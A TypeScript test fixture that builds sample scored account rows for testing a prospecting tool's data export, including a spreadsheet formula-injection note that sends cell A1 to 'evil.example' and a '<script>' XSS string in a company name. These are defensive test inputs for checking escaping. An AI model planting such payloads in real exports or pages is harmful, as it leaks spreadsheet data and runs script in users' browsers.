import type { Account } from '@/lib/accounts/account';
import { identityOf, mergeObservation, newAccountId } from '@/lib/accounts/merge';
import type { ShortlistEntry } from '@/lib/db';
import type { ExportRow } from '@/lib/export/export-row';
import { SAMPLE_ICP } from '@/lib/icp/sample-icp';
import { score } from '@/lib/scoring/score';
import type { Observation } from '@/lib/signals/vocabulary';
import { observation, signal } from '../helpers/signals';

/** Accounts as the background stores them (observations merged), scored against the sample ICP. */

export const NOW = new Date('2026-11-23T12:00:00Z');
export const EVIL_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

const ACME_LINKEDIN = 'https://www.linkedin.com/company/acme/';
const ACME_SITE = 'https://acme.com/';

function accountFrom(observations: Observation[]): Account {
  const id = newAccountId(identityOf(observations[0]?.signals ?? [])) ?? 'test:account';
  let account: Account | undefined;
  for (const seen of observations) account = mergeObservation(account, seen, id);
  if (!account) throw new Error('an account needs an observation');
  return account;
}

function rowOf(account: Account, shortlist?: Omit<ShortlistEntry, 'accountId'>): ExportRow {
  const fit = score(account, SAMPLE_ICP, NOW);
  return shortlist ? { account, fit, shortlist: { accountId: account.id, ...shortlist } } : { account, fit };
}

const onZurich = { url: 'https://www.linkedin.com/company/zurich/' };
const onSite = { extractorId: 'company-website', url: ACME_SITE, seenAt: '2026-11-21T10:00:00.000Z' };

/** A strong fit read from LinkedIn and its website, with a note that tries to be a formula. */
export const ACME = rowOf(
  accountFrom([
    observation([
      signal('name', 'Acme'),
      signal('linkedinUrl', ACME_LINKEDIN),
      signal('industry', 'Software Development'),
      signal('employeeRange', '1001-5000'),
      signal('employeesOnLinkedIn', 4213),
      signal('hqCity', 'Fairfield'),
      signal('hqRegion', 'NJ'),
      signal('hqCountry', 'US'),
      signal('foundedYear', 1952),
      signal('specialties', ['CRM', 'Sales, "enablement"']),
      signal('fundingStage', 'series_c'),
      signal('lastFundingDate', '2026-06-12'),
      signal('totalFundingUsd', 250_000_000),
      signal('technology', ['HubSpot'], { extractorId: 'linkedin-jobs' }),
    ]),
    observation(
      [
        signal('domain', 'acme.com', onSite),
        signal('technology', ['Salesforce', 'HubSpot', 'Marketo'], {
          ...onSite,
          extractorId: 'website-technology',
        }),
        signal('pricingPage', true, onSite),
        signal('freeTrial', false, onSite),
      ],
      { url: ACME_SITE, pageKind: 'company-website' },
    ),
  ]),
  {
    status: 'contacted',
    note: EVIL_NOTE,
    addedAt: '2026-11-21T11:00:00.000Z',
    updatedAt: '2026-11-22T08:30:00.000Z',
  },
);

/** Non-ASCII, quotes, a comma, a line break and an emoji in the name; a region of a country without states. */
export const ZURICH = rowOf(
  accountFrom([
    observation([
      signal('name', 'Zürich "Versicherung", AG\nHolding 🚀', onZurich),
      signal('linkedinUrl', 'https://www.linkedin.com/company/zurich/', onZurich),
      signal('industry', 'Financial Services', onZurich),
      signal('employeeRange', '10001+', onZurich),
      signal('hqCity', 'Zürich', onZurich),
      signal('hqRegion', 'Zürich', onZurich),
      signal('hqCountry', 'CH', onZurich),
    ]),
  ]),
  {
    status: 'new',
    note: 'Call after Q1\tthen\r\nfollow up',
    addedAt: '2026-11-22T09:00:00.000Z',
    updatedAt: '2026-11-22T09:00:00.000Z',
  },
);

/** A competitor (disqualified) whose page name is markup. */
export const COMPETITOR = rowOf(
  accountFrom([
    observation(
      [signal('name', '<script>alert("x")</script> & Co', onSite), signal('domain', 'quotaly.io', onSite)],
      { url: ACME_SITE, pageKind: 'company-website' },
    ),
  ]),
);

/** Only the LinkedIn page address is known: everything else is unknown. */
export const BARELY_KNOWN = rowOf(
  accountFrom([
    observation([
      signal('linkedinUrl', 'https://www.linkedin.com/company/mystery-co/', {
        url: 'https://www.linkedin.com/company/mystery-co/about/',
      }),
    ]),
  ]),
);

export const ALL_ROWS: readonly ExportRow[] = [ACME, ZURICH, COMPETITOR, BARELY_KNOWN];
